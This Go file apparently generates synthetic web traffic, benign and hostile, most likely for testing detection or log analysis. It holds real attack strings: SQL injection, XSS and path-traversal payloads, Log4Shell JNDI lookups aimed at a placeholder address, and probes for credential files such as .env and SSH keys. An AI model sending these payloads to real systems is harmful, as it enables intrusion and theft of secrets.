package traffic

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"net/url"
	"time"
)

// Each function here fills in one request of a kind of client and says how long
// it waits before the next one.

// millis is a wait between low and high milliseconds.
func millis(a *actor, low, high int) time.Duration {
	return time.Duration(low+a.rnd.IntN(high-low)) * time.Millisecond
}

func pick(a *actor, list []string) string { return list[a.rnd.IntN(len(list))] }

var assets = []struct{ path, contentType string }{
	{"/static/css/main.8f3c1.css", "text/css"},
	{"/static/js/vendor.77ab2.js", "application/javascript"},
	{"/static/js/app.19c04.js", "application/javascript"},
	{"/static/img/logo.svg", "image/svg+xml"},
	{"/static/fonts/inter-var.woff2", "font/woff2"},
	{"/favicon.ico", "image/x-icon"},
}

// browse loads a page and its assets, then reads.
func browse(a *actor, r *request) time.Duration {
	const page = 9 // requests a page
	page0 := "/products/" + fmt.Sprint(1000+a.rnd.IntN(4000))
	switch i := a.step % page; {
	case i == 0:
		if r.path = page0; a.rnd.IntN(60) == 0 {
			r.path, r.status = "/products/sold-out-"+fmt.Sprint(a.rnd.IntN(50)), 404
		}
		if a.rnd.IntN(12) == 0 {
			r.path, r.query = "/search", "q="+url.QueryEscape(pick(a, searches))
		}
		return millis(a, 60, 200)
	case i <= len(assets):
		s := assets[i-1]
		r.path, r.contentType, r.hit = s.path, s.contentType, true
	default:
		r.path, r.contentType = fmt.Sprintf("/static/img/p/%d.webp", a.rnd.IntN(9000)), "image/webp"
	}
	r.referer = "https://www.example.com/products"
	if a.step%page == page-1 {
		return millis(a, 1500, 5000)
	}
	return millis(a, 5, 60)
}

// searches hold words that a careless rule takes for SQL or a script.
var searches = []string{
	"union jack select committee", "drop table lamp", "winter boots", "script fonts", "o'neill wetsuit",
	"where to order by phone", "50% off & more", "coffee <3",
}

// useApp calls an API and refreshes its token now and then.
func useApp(a *actor, r *request) time.Duration {
	r.host, r.contentType = "api.example.com", "application/json"
	switch {
	case a.step%30 == 12:
		r.path, r.status = "/v1/me", 401
		return millis(a, 40, 90)
	case a.step%30 == 13:
		r.method, r.path = "POST", "/v1/token"
	default:
		r.path = fmt.Sprintf("/v1/items/%d", a.rnd.IntN(5000))
	}
	return millis(a, 200, 1600)
}

// brokenGallery shows a page whose pictures are gone.
func brokenGallery(a *actor, r *request) time.Duration {
	if a.step%20 == 0 {
		r.path = "/gallery/summer"
		return millis(a, 80, 160)
	}
	r.path = fmt.Sprintf("/media/summer/img_%04d.jpg", a.step)
	r.status, r.referer = 404, "https://www.example.com/gallery/summer"
	if a.step%20 == 19 {
		return millis(a, 3000, 6000)
	}
	return millis(a, 10, 50)
}

// crawl walks the site politely and meets a dead link now and then.
func crawl(a *actor, r *request) time.Duration {
	switch {
	case a.step == 0:
		r.path, r.contentType = "/robots.txt", "text/plain"
	case a.step%25 == 24:
		r.path, r.status = fmt.Sprintf("/products/old-%d", a.step), 404
	default:
		r.path = fmt.Sprintf("/products/%d", 1000+a.step)
	}
	return millis(a, 700, 1300)
}

// manyUsers is an office behind one address: the pages and the dead links of
// many people at once.
func manyUsers(a *actor, r *request) time.Duration {
	a.agent = pick(a, browserAgents)
	r.agent = a.agent
	browse(a, r)
	return millis(a, 15, 70)
}

// checkHealth asks for a page that is answered 404, every second.
func checkHealth(_ *actor, r *request) time.Duration {
	r.path, r.status = "/health/deep", 404
	return time.Second
}

var wordList = []string{
	"administrator", "old", "test", "dev", "staging", "backup", "api/v0", "console", "cgi-bin/status", "server-status",
	"portal", "manager/html", "jenkins", "solr/admin", "actuator/health", "owa", "remote/login", "hudson", "telescope",
	"_profiler", "druid/index.html", "nacos", "webmail", "mysql", "pma", "dbadmin", "sftp-config.json", "install.php",
	"setup.php", "config.json", "debug/default/view", "phpinfo.php", "info.php", "web.config", "crossdomain.xml",
}

// scan works through a list of words.
func scan(a *actor, r *request) time.Duration {
	r.path = "/" + wordList[a.step%len(wordList)]
	if n := a.step / len(wordList); n > 0 {
		r.path += fmt.Sprint("-", n)
	}
	r.status, r.bytes = 404, 900
	return millis(a, 50, 150)
}

var secrets = []string{
	"/.env", "/.git/config", "/.aws/credentials", "/wp-config.php.bak", "/.ssh/id_rsa", "/backup.sql", "/.env.production",
	"/.git/HEAD", "/.htpasswd", "/config/database.yml", "/.DS_Store", "/.svn/entries", "/db.sql.gz", "/.npmrc",
}

func fetchSecrets(a *actor, r *request) time.Duration {
	r.path = secrets[a.step%len(secrets)]
	r.status, r.bytes = 403, 700
	return millis(a, 80, 250)
}

func injectSQL(a *actor, r *request) time.Duration {
	payloads := []string{
		"1' OR '1'='1' -- -", "1 UNION ALL SELECT NULL,NULL,version()-- -", "1'; WAITFOR DELAY '0:0:5'--",
		"1 AND SLEEP(5)#", "1' AND extractvalue(1,concat(0x7e,user()))-- -", "-1' UNION SELECT table_name,2 FROM information_schema.tables#",
		"1 OR benchmark(5000000,md5(1))-- ",
	}
	r.path = "/products"
	r.query = "id=" + url.QueryEscape(payloads[a.step%len(payloads)]) + "&n=" + fmt.Sprint(a.step)
	r.status = 500
	return millis(a, 100, 300)
}

func injectScript(a *actor, r *request) time.Duration {
	payloads := []string{
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.domain)>", "<svg/onload=confirm(1)>",
		"javascript:alert(document.cookie)", "'\"><iframe src=javascript:alert(1)>", "<body onload=prompt(1)>",
	}
	r.path = "/search"
	r.query = "q=" + url.QueryEscape(payloads[a.step%len(payloads)]) + "&n=" + fmt.Sprint(a.step)
	return millis(a, 100, 300)
}

func traverse(a *actor, r *request) time.Duration {
	payloads := []string{
		"/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/download?file=../../../../etc/shadow",
		"/..%252f..%252f..%252fetc%252fpasswd", "/assets/....//....//....//etc/hosts", "/img?f=..%5c..%5cwindows%5cwin.ini",
	}
	u, query := payloads[a.step%len(payloads)], ""
	for i := range len(u) {
		if u[i] == '?' {
			u, query = u[:i], u[i+1:]
			break
		}
	}
	r.path, r.query, r.status = u+fmt.Sprint("/", a.step), query, 404
	return millis(a, 100, 300)
}

func injectHeader(a *actor, r *request) time.Duration {
	r.path = "/"
	r.agent = "${jndi:ldap://203.0.113.66:1389/" + fmt.Sprint(a.step) + "}"
	r.referer = "${${lower:j}ndi:${lower:l}dap://203.0.113.66/x}"
	return millis(a, 300, 900)
}

func guessPassword(a *actor, r *request) time.Duration {
	r.method, r.path, r.status, r.bytes = "POST", "/account/login", 401, 800
	return millis(a, 120, 400)
}

// guessWordPress is answered 200 each time: so WordPress says no.
func guessWordPress(a *actor, r *request) time.Duration {
	r.method, r.path, r.host = "POST", "/wp-login.php", "blog.example.com"
	r.referer = "https://blog.example.com/wp-login.php"
	return millis(a, 120, 400)
}

func useTool(a *actor, r *request) time.Duration {
	r.path = fmt.Sprintf("/products/%d", a.rnd.IntN(5000))
	return millis(a, 200, 600)
}

// flood asks for the same page with a new query each time, so that the cache
// cannot help.
func flood(a *actor, r *request) time.Duration {
	r.path, r.query = "/search", fmt.Sprintf("q=%x", a.rnd.Uint32())
	return millis(a, 2, 6)
}

// rotate scans from a new address of its /64 each time.
func rotate(a *actor, r *request) time.Duration {
	raw := a.client.Addr.As16()
	binary.BigEndian.PutUint64(raw[8:], a.rnd.Uint64())
	r.addr = netip.AddrFrom16(raw)
	return scan(a, r)
}
